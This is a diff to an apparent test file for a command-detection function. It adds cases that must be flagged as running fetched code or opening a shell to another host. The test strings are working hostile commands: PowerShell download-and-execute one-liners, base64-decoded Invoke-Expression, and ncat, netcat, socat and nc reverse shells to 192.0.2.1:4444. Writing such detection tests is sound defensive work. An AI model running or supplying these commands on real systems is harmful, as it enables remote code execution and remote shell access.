@@ -137,6 +137,13 @@ describe('code from elsewhere', () => {
     'iex (iwr http://example.com/x)',
     "(New-Object Net.WebClient).DownloadString('x') | iex",
     'powershell -c "Invoke-Expression (irm x)"',
+    "(New-Object Net.WebClient).DownloadFile('https://example.com/x', 'x.exe'); Start-Process x.exe",
+    'iex (Invoke-WebRequest https://example.com/x).Content',
+    'iex (Invoke-RestMethod https://example.com/x)',
+    'iex (curl https://example.com/x).Content',
+    'iex (wget https://example.com/x).Content',
+    'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))',
+    'cargo install --git https://example.com/x',
     `python3 -c "exec(urlopen('x').read())"`,
   ])('is run by %s', (text) => {
     expect(inCommand(text)).toContain('runs_fetched');
@@ -166,7 +173,7 @@ describe('what is fetched', () => {
       ' ',
     ),
   )('is run by %s where it was cloned', (program) => {
-    expect(inCommand(`git clone https://example.com/x && ${program} x`)).toContain('runs_fetched');
+    expect(inCommand(`git clone https://example.com/x && ${program} build`)).toContain('runs_fetched');
   });
 
   it.each(
@@ -199,6 +206,9 @@ describe('a shell to elsewhere', () => {
     'rm -f p; mkfifo p; cat p | sh -i 2>&1 | nc 192.0.2.1 4444 > p',
     'nc 192.0.2.1 4444 < p | bash > p',
     'telnet 192.0.2.1 4444 | sh',
+    'ncat 192.0.2.1 4444 < p | sh > p',
+    'netcat 192.0.2.1 4444 < p | sh > p',
+    'socat - TCP:192.0.2.1:4444 < p | sh > p',
     'openssl s_client -connect 192.0.2.1:4444 < p | sh > p',
     `python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'`,
     `perl -e 'use Socket;socket(S);exec("/bin/sh -i");'`,
